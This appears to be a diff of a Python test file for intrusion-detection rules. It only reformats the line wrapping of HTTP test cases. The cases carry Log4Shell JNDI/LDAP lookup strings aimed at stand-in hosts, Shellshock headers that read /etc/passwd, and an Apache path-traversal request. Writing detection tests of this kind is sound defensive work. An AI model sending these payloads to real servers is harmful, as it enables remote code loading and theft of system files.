@@ -30,7 +30,9 @@ class Case:
 CASES: tuple[Case, ...] = (
     # Log4Shell
     Case("log4shell-ua", "GET", "/", {"User-Agent": "${jndi:ldap://203.0.113.9:1389/a}"}, sids=frozenset({1995001})),
-    Case("log4shell-lower", "GET", "/", {"X-Api-Version": "${${lower:j}ndi:ldap://x.test/a}"}, sids=frozenset({1995002})),
+    Case(
+        "log4shell-lower", "GET", "/", {"X-Api-Version": "${${lower:j}ndi:ldap://x.test/a}"}, sids=frozenset({1995002})
+    ),
     Case(
         "log4shell-colon-dash",
         "GET",
@@ -57,8 +59,16 @@ CASES: tuple[Case, ...] = (
         b"JNDI lookups like jndi:ldap are disabled; see ${docs}",
     ),
     # Shellshock
-    Case("shellshock-ua", "GET", "/cgi-bin/status", {"User-Agent": "() { :; }; /bin/cat /etc/passwd"}, sids=frozenset({1995010})),
-    Case("shellshock-cookie", "GET", "/cgi-bin/x", {"Cookie": "a=() { :;}; echo vulnerable"}, sids=frozenset({1995012})),
+    Case(
+        "shellshock-ua",
+        "GET",
+        "/cgi-bin/status",
+        {"User-Agent": "() { :; }; /bin/cat /etc/passwd"},
+        sids=frozenset({1995010}),
+    ),
+    Case(
+        "shellshock-cookie", "GET", "/cgi-bin/x", {"Cookie": "a=() { :;}; echo vulnerable"}, sids=frozenset({1995012})
+    ),
     Case("shellshock-benign", "GET", "/cgi-bin/status", {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) f() {}"}),
     # Apache 2.4.49/50 path traversal
     Case("apache-dot-2e", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", sids=frozenset({1995020})),
